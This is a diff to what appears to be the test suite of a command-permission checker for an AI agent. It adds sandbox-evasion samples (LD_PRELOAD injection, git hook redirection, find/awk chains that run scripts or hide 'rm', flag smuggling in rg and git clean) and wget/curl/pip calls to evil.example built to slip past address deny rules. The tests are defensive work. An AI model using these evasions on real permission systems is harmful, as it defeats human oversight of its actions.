@@ -142,6 +142,19 @@ GIT_EXEC_PATH=x git status
 GIT_CONFIG_GLOBAL=x git status
 duckdb -c '.shell x'
 gcc -o x x.c && ./x
+LD_PRELOAD=/dev/null:/tmp/x.so ls
+env "LD_PRELOAD=/dev/null /tmp/x.so" ls
+LD_AUDIT=/dev/null:/tmp/x.so ls
+DYLD_INSERT_LIBRARIES=/dev/null:/tmp/x.dylib ls
+GIT_CONFIG_GLOBAL=/dev/nullx git status
+git -c core.hooksPath=/dev/nullx commit
+find . -maxdepth 0 -exec cp /x s.sh \; -exec sh s.sh \;
+find . -maxdepth 0 -fprint s.sh -exec sh s.sh \;
+find . -exec cp /x/s.sh . \; -exec sh {} \;
+fd -x cp /x s.sh -x sh s.sh
+./s.sh s.sh; ./s.sh s.sh
+awk -F -F 'BEGIN{system("r" "m x")}'
+gawk -i -F 'BEGIN{system("r" "m x")}'
 """.strip().split("\n")
 FILES = r"""
 cd q; cd q; cd d; cat secret.txt
@@ -208,6 +221,19 @@ wget -P d h/x/secret.txt
 bwrap --ro-bind . /w cat /w/d/secret.txt
 docker cp d c:/x
 kubectl cp d p:/x
+rg -e --files -e '' d
+rg -- --files d
+rg -r --files x d
+ugrep --files x d
+git clean -fd -n -e -nd
+git clean -fd -e -nd
+git clean -fd -e -n
+git clean -fd -nd --no-dry-run
+git clean -fd -n --no-dry
+git clean -fd -- -nd
+git clean -fd --interactive
+tar -cf a -j$X
+cat -j$X
 """.strip().split("\n")
 HARMLESS = r"""
 for f in a b c; do cp "$f" "src/$f"; done
@@ -256,6 +282,11 @@ sqlite3 a.db '.schema t'
 awk -F'|' '{print $2}' f
 awk -F '|' '{print $2}' f
 git clean -nd
+git clean -xd --dry-run src
+git sparse-checkout list
+rg --files src -g '*.py'
+awk -F '[|]' '{print $2}' f
+ninja -j$(nproc)
 diff <(ls src) <(ls e)
 rg --files
 rg -n -e x src
@@ -669,8 +700,76 @@ def test_a_step_back_makes_nothing_allowed():
         ('curl "http://localhost:$PORT/health"', "allow"),
         ("curl https://h.example/$ID", "allow"),
         ("make -C $D", "ask"),
+        ('wget "evil.example$X"', "ask"),
+        ('wget "evil.$X/x"', "ask"),
+        ('wget "e$X"', "ask"),
+        ('wget "HTTPS://e$X"', "ask"),
+        ('wget "http://e$X"', "ask"),
+        ("wget https://h.example$X/x", "ask"),
+        ("wget 'https:\\\\h.example'$X", "ask"),
+        ("wget Evil.example/$X", "deny"),
+        ("wget https://me@EVIL.example:443/$X", "deny"),
+        ("curl --url=$X", "ask"),
+        ("curl --url=evil.example/$X", "deny"),
+        ("curl -sxevil.example/$X h.example", "ask"),
+        ("curl --proxy=$X h.example", "ask"),
+        ("http --url=$X", "ask"),
+        ("pip install git+$X", "ask"),
+        ("pip install git+https://evil.example/$X", "deny"),
+        ("git clone --config=url.https://g.example/.insteadOf=$X a", "ask"),
+        ("wget -e 'https_proxy = evil.example/'$X h.example", "deny"),
+        ("curl --preproxy socks5://e$X h.example", "ask"),
+        ("pip install x@https://e$X", "ask"),
+        ("git clone ssh://$X/x", "ask"),
+        ("wget a=b=c=d=e=f=g=h=i=$X", "ask"),
+        ("wget https://h.example/$ID", "allow"),
+        ("wget h.example/$ID", "allow"),
+        ('curl "https://h.example/?id=$ID"', "allow"),
+        ("pip install git+https://h.example/$ID", "allow"),
+        ("cat src/$F", "allow"),
     ],
 )
 def test_an_address_of_which_a_part_is_known_only_when_it_runs(command, answer):
     """Bug: what `curl` was to ask was looked at as a file alone, so that no rule about addresses was ever in doubt."""
     assert ruled("https://evil.example/*", command) == answer
+
+
+@pytest.mark.parametrize(
+    ("command", "answer"),
+    [
+        ("wget https://evil.example/a$X", "ask"),
+        ("wget Evil.example/$X", "ask"),
+        ("wget http://evil.example/$X", "ask"),
+        ("wget https://me@EVIL.example:443/$X/b", "ask"),
+        ("curl --url=evil.example/$X", "ask"),
+        ("curl -sxevil.example/$X h.example", "ask"),
+        ("pip install git+https://evil.example/$X", "ask"),
+        ("wget https://h.example$X/a/b", "ask"),
+        ("wget me@evil.example/$X", "ask"),
+        ("wget -e 'https_proxy = evil.example/'$X h.example", "ask"),
+        ("wget https://evil.example/c/$X", "ask"),
+        ("wget https://evil.example/$X/c", "ask"),
+        ("wget https://h.example$X/c", "ask"),
+        ("wget e$X.example/a", "ask"),
+        ("wget evil.exampl?/a/$X", "ask"),
+        ("wget http://localhost:$PORT/x", "ask"),
+        ("wget https://h.example/a/$X", "allow"),
+    ],
+)
+def test_a_page_of_which_a_part_is_known_only_when_it_runs(command, answer):
+    assert ruled("https://evil.example/a/b", command) == answer
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "curl 'evil.example/x?u=https://g/'",
+        "wget 'evil.example/login?next=https://g.example/'",
+        "wget evil.example/https://g/",
+        "curl https:/evil.example/https://g/",
+        "curl --url='evil.example/?u=https://g/'",
+    ],
+)
+def test_an_address_within_another_hides_it_from_no_rule(command):
+    """Bug: the last of two addresses in a word was taken for the one that is asked."""
+    assert ruled("https://evil.example/*", command) == "deny"
